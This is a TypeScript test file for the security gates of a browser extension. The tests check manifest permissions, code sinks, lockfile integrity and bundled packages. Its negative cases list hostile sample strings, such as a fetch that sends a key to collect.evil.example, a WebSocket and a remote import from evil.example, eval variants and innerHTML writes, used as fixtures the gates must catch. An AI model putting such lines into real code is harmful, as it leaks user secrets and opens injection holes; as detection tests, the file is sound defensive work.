import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { bundleProblems } from '../../tools/bundle-gate.ts';
import { codeProblems } from '../../tools/code-gate.ts';
import { gateManifest, manifestProblems } from '../../tools/manifest-gate.ts';
import { gatePackages, packageProblems } from '../../tools/package-gate.ts';

const CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src https:; object-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'";
const SCRIPT = { matches: ['https://app.instantly.ai/*'], js: ['content-scripts/instantly.js'] };
const CHROME = {
  manifest_version: 3,
  name: 'Sendwatch',
  version: '0.1.0',
  permissions: ['storage', 'unlimitedStorage', 'alarms'],
  host_permissions: ['https://api.instantly.ai/*'],
  incognito: 'not_allowed',
  content_security_policy: { extension_pages: CSP },
  minimum_chrome_version: '144',
  background: { service_worker: 'background.js' },
  content_scripts: [SCRIPT],
};
const FIREFOX = {
  ...CHROME,
  browser_specific_settings: {
    gecko: { data_collection_permissions: { required: ['authenticationInfo'] } },
  },
};

describe('row 62: what the built manifest asks for', () => {
  test('row 62: what was decided, in both browsers', () => {
    expect(manifestProblems(CHROME)).toEqual([]);
    expect(manifestProblems(FIREFOX)).toEqual([]);
    const optional = { optional_permissions: ['notifications'] };
    const hosts = { optional_host_permissions: ['https://*/*'] };
    const panel = { permissions: [...CHROME.permissions, 'sidePanel'] };
    expect(manifestProblems({ ...CHROME, ...optional, ...hosts, ...panel })).toEqual([]);
  });

  test.each<[string, object]>([
    ['a permission', { permissions: ['storage', 'tabs'] }],
    ['permissions that are no list', { permissions: 'tabs' }],
    ['an optional permission', { optional_permissions: ['history'] }],
    ['a host', { host_permissions: ['https://api.instantly.ai/*', 'https://evil.example/*'] }],
    ['every host', { host_permissions: ['<all_urls>'] }],
    ['an optional host', { optional_host_permissions: ['*://*/*'] }],
    ['private windows', { incognito: 'split' }],
    ['a looser policy', { content_security_policy: { extension_pages: `${CSP} 'unsafe-eval'` } }],
    ['no policy', { content_security_policy: undefined }],
    ['a sandbox', { content_security_policy: { extension_pages: CSP, sandbox: 'sandbox' } }],
    ['resources for pages', { web_accessible_resources: [] }],
    ['other extensions', { externally_connectable: { ids: ['*'] } }],
    ['a debugger’s door', { devtools_page: 'devtools.html' }],
    ['another page', { content_scripts: [{ ...SCRIPT, matches: ['https://*.instantly.ai/*'] }] }],
    ['a second script', { content_scripts: [SCRIPT, SCRIPT] }],
    ['the page’s world', { content_scripts: [{ ...SCRIPT, world: 'MAIN' }] }],
    ['all frames', { content_scripts: [{ ...SCRIPT, all_frames: true }] }],
    ['about:blank', { content_scripts: [{ ...SCRIPT, match_about_blank: true }] }],
    ['the older manifest', { manifest_version: 2 }],
  ])('row 62, control: %s more is noticed', (_, change) => {
    expect(manifestProblems({ ...CHROME, ...change })).not.toEqual([]);
  });

  test('row 62, control: Firefox is told what is sent, and has no side panel', () => {
    expect(manifestProblems({ ...FIREFOX, browser_specific_settings: { gecko: {} } })).toEqual([
      'data_collection_permissions',
    ]);
    const permissions = [...CHROME.permissions, 'sidePanel'];
    expect(manifestProblems({ ...FIREFOX, permissions })).toEqual(['permissions: sidePanel']);
  });
});

describe('rows 62 and 63: what the built code holds', () => {
  test.each([
    ['Preact’s own sink', 'a.js', 'd.__html==e.innerHTML)||(e.innerHTML=d.__html)'],
    ['the API', 'a.js', "fetch('https://api.instantly.ai/api/v2')"],
    ['a vocabulary', 'a.js', '"http://www.w3.org/2000/svg"'],
    ['an evaluation by name', 'a.js', 'const evaluate=x=>evaluated(x);retrieval(1)'],
    ['a page with its script outside', 'a.html', '<script type="module" src="/a.js"></script>'],
  ])('row 62: %s is let through', (_, path, code) => {
    expect(codeProblems(path, code)).toEqual([]);
  });

  test.each([
    ['eval', 'a.js', 'eval(text)'],
    ['indirect eval', 'a.js', '(0,eval)(text)'],
    ['eval of a window', 'a.js', 'globalThis.eval(text)'],
    ['a new function', 'a.js', 'new Function("return 1")'],
    ['a function from text', 'a.js', 'x=Function("return 1")()'],
    ['a timer with text', 'a.js', 'setTimeout("go()",1)'],
    ['code from elsewhere', 'a.js', 'import("https://evil.example/a.js")'],
    ['innerHTML', 'a.js', 'e.innerHTML=name'],
    ['innerHTML added to', 'a.js', 'e.innerHTML += name'],
    ['outerHTML', 'a.js', 'e.outerHTML = name'],
    ['two copies of Preact', 'a.js', 'e.innerHTML=d.__html;f.innerHTML=g.__html'],
    ['inserted markup', 'a.js', "e.insertAdjacentHTML('beforeend', name)"],
    ['a written document', 'a.js', 'document.write(name)'],
    ['a frame from text', 'a.js', 'frame.srcdoc=name'],
    ['an added host', 'a.js', "fetch('https://collect.evil.example/k?'+key)"],
    ['a host that begins alike', 'a.js', "'https://api.instantly.ai.evil.example'"],
    ['an escaped host', 'a.js', '"https:\\/\\/evil.example"'],
    ['a socket', 'a.js', "new WebSocket('wss://evil.example')"],
    ['a font from elsewhere', 'a.css', '@import url(https://fonts.example/a.css)'],
    ['inline script', 'a.html', '<script>go()</script>'],
    ['an inline handler', 'a.html', '<body onload="go()">'],
    ['a path of a machine', 'a.js', '"/home/somebody/project/a.ts"'],
    ['a file address', 'a.js', '"file:///a.ts"'],
  ])('rows 62 and 63, control: %s is noticed', (_, path, code) => {
    expect(codeProblems(path, code)).not.toEqual([]);
  });
});

describe('row 62: packages', () => {
  const ENTRY = { version: '1.0.0', integrity: `sha512-${'a'.repeat(86)}==` };
  const RUNTIME = ['@preact/signals', '@tanstack/virtual-core', 'idb', 'preact', 'uplot'].concat([
    'webextension-polyfill',
    'zod',
  ]);
  const plain = {
    packages: {
      '': { dependencies: Object.fromEntries(RUNTIME.map((name) => [name, '1.0.0'])) },
      ...Object.fromEntries(RUNTIME.map((name) => [`node_modules/${name}`, ENTRY])),
      'node_modules/@preact/signals': { ...ENTRY, dependencies: { '@preact/signals-core': '^1' } },
      'node_modules/@preact/signals-core': ENTRY,
    },
  };
  const withEntry = (path: string, entry: object) => ({
    packages: { ...plain.packages, [path]: entry },
  });

  test('row 62: the lockfile brings the known packages, all with a checksum', () => {
    expect(gatePackages()).toEqual([]);
    expect(packageProblems(plain)).toEqual([]);
  });

  test.each<[string, Parameters<typeof packageProblems>[0]]>([
    [
      'a package behind a package',
      withEntry('node_modules/idb', { ...ENTRY, dependencies: { evil: '1' } }),
    ],
    ['no checksum', withEntry('node_modules/idb', { version: '1.0.0' })],
    ['a weak checksum', withEntry('node_modules/idb', { ...ENTRY, integrity: 'sha1-abc' })],
    [
      'a git address',
      withEntry('node_modules/idb', { ...ENTRY, resolved: 'git+ssh://evil/x.git' }),
    ],
    ['a link', withEntry('node_modules/idb', { ...ENTRY, link: true })],
    [
      'a floating version',
      withEntry('', { dependencies: { ...plain.packages[''].dependencies, idb: '^8' } }),
    ],
    [
      'a new package',
      withEntry('', { dependencies: { ...plain.packages[''].dependencies, evil: '1.0.0' } }),
    ],
  ])('row 62, control: %s is noticed', (_, lockfile) => {
    expect(packageProblems(lockfile)).not.toEqual([]);
  });
});

describe('gateManifest', () => {
  let folder = '';
  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'gate-'));
  });
  afterEach(() => rmSync(folder, { recursive: true }));

  const write = (path: string, text: string): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  };

  test('row 62: judges a whole folder', () => {
    write('manifest.json', JSON.stringify(CHROME));
    write('chunks/a.js', 'console.log(1)');
    expect(gateManifest(folder)).toEqual([]);
    write('chunks/deep/b.js', 'eval(1)');
    write('manifest.json', JSON.stringify({ ...CHROME, permissions: ['tabs'] }));
    expect(gateManifest(folder)).toEqual(['permissions: tabs', 'chunks/deep/b.js: eval']);
  });
});

describe('row 62: whose code is in the built scripts', () => {
  const decided = { background: ['zod'], pages: ['preact'] };

  test('row 62: what was decided', () => {
    expect(bundleProblems(decided, decided)).toEqual([]);
  });

  test('row 62, control: a package that came along, and one that is gone, are noticed', () => {
    const built = { background: ['zod', 'left-pad'], pages: [], panel: ['preact'] };
    expect(bundleProblems(built, decided)).toEqual([
      'background: new package left-pad',
      'pages: no package preact any more',
      'panel: new package preact',
    ]);
  });
});
